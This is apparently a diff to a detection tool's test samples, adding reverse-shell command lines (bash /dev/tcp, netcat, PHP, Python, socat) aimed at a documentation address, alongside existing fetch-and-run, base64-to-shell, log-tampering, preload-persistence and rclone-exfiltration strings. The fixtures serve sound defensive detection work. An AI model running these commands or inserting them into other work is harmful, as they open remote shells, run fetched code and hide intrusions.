@@ -773,6 +773,9 @@ SAMPLES = {
     "lotl_name_with_carets": (
         ("a.log", "cmd /c c^e^r^t^u^t^i^l -urlcache x\r\n"),
         ("a.log", "cmd /c echo a ^& certutil -hashfile a.exe ^\r\n")),
+    "reverse_shell_in_audit_record": (
+        ("audit.log", audit(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"])),
+        ("audit.log", audit(["bash", "-c", "echo > /dev/tcp/127.0.0.1/22"]) + audit(["nc", "-z", "192.0.2.7", "443"]))),
     "lotl_in_audit_record": (
         ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sh"])),
         ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sha1sum"]) + audit(["ls", "-l", "/dev/shm/x"]) +
@@ -1032,6 +1035,12 @@ QUOTED_PLAIN = [
     ("lotl_fetch_from_address", "curl -sL https://192.0.2.7/x.sh | bash"),
     ("lotl_fetch_from_address", "bash <(curl -s http://192.0.2.7:8000/x.sh)"),
     ("lotl_fetch_from_address", 'sh -c "$(wget -qO- http://192.0.2.7/x)"'),
+    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);exec("sh <&3 >&3 2>&3");\''),
+    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);shell_exec("sh <&3 >&3 2>&3");\''),
+    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);system("/bin/bash <&3 >&3 2>&3");\''),
+    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);`sh <&3 >&3 2>&3`;\''),
+    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);\''),
+    ("reverse_shell_script_language", 'php -r "\\$sock=fsockopen(\\"192.0.2.7\\",443);popen(\\"sh <&3 >&3 2>&3\\", \\"r\\");"'),
     ("lotl_linux_system_program_restamped", "touch -acmr /bin/ls /usr/bin/.x"),
     ("lotl_linux_system_program_restamped", "touch --reference=/usr/bin/ls /lib/x86_64-linux-gnu/security/pam_unix.so"),
     ("lotl_linux_system_program_restamped", "touch -t 202001010101 /usr/sbin/sshd"),
@@ -1046,6 +1055,12 @@ QUOTED_PLAIN = [
     ("lotl_rclone_exfiltration", "/dev/shm/.c/rclone copy /home pcloud:h"),
     ("lotl_packed_text_to_shell", "echo aWQgPiAvdG1wL3gK | base64 -d | sh"),
     ("lotl_packed_text_to_shell", "echo 'aWQgPiAvdG1wL3gK' | openssl base64 -d | bash"),
+    ("reverse_shell_in_audit_record", audit(["nc", "-e", "/bin/sh", "192.0.2.7", "443"])),
+    ("reverse_shell_in_audit_record", audit(["sh", "-c", "nc -e /bin/bash 192.0.2.7 443"])),
+    ("reverse_shell_in_audit_record", audit(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",443));os.dup2(s.fileno(),0);pty.spawn("sh")'])),
+    ("reverse_shell_in_audit_record", audit(["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 443 >/tmp/f"])),
+    ("reverse_shell_in_audit_record", audit(["sh", "-c", "0<&196;exec 196<>/dev/tcp/192.0.2.7/443; sh <&196 >&196 2>&196 0>&1"])),
+    ("reverse_shell_in_audit_record", audit(["socat", "exec:'bash -li',pty,stderr", "tcp:192.0.2.7:443"]).split("\n")[0].replace("657865633A2762617368202D6C69272C7074792C737464657272", '"exec:bash,pty,stderr"')),
     ("lotl_in_audit_record", audit(["sh", "-c", "curl -s http://192.0.2.7/x.sh | bash"])),
     ("lotl_in_audit_record", audit(["sh", "-c", "echo /lib/x.so > /etc/ld.so.preload"])),
     ("lotl_in_audit_record", audit(["tee", "-a", "/etc/ld.so.preload"])),
